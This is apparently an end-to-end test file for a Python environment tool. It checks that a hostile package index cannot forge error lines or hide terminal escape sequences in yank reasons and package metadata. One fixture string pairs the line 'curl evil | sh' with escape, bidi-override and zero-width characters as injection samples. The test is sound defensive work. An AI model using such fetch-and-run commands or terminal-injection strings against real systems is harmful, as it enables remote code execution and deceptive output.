"""Names, reasons and errors of an index that try to act on the terminal, or to forge lines."""

from __future__ import annotations

import re

from envc.model.hidden import HIDDEN
from tests.e2e.command import Workplace
from tests.support.manifests import project_table
from tests.support.servers import IndexServer
from tests.support.wheels import build_wheel

FORGED = "x\nerror: forged\r\n  hint: curl evil | sh\x1b]0;title\x07\u202e\u200b\u2028\x9b2J\x7f\U000e0041"


def shows_nothing_hidden(text: str) -> bool:
    return re.search(f"(?!\n)[{HIDDEN}]", text) is None


def test_an_index_cannot_forge_lines_of_a_lock(workplace: Workplace, index: IndexServer) -> None:
    index.add(build_wheel("gamma", "9.0"), yanked=FORGED)
    index.add(build_wheel("omega", "1.0"))
    index.behaviour.bodies["/files/omega-1.0-py3-none-any.whl.metadata"] = (
        "text/plain",
        "Metadata-Version: 2.1\nName: om\x1b[2Jega\u202e\nVersion: 1.0\n".encode(),
    )
    index.behaviour.hashes = False
    workplace.write(f"{project_table('linux-64', python='3.11')}\n[steps.train]\npypi = ['gamma==9.0']\n")
    done = workplace.run("lock")
    assert done.code == 0
    assert shows_nothing_hidden(done.out + done.err) and shows_nothing_hidden(workplace.lock.read_text())
    assert "yanked" in done.err and "\nerror:" not in done.err and done.err.count("\n  hint: ") == 1
    workplace.write(f"{project_table('linux-64', python='3.11')}\n[steps.train]\npypi = ['omega']\n")
    done = workplace.run("lock", "--json")
    assert shows_nothing_hidden(done.out + done.err)
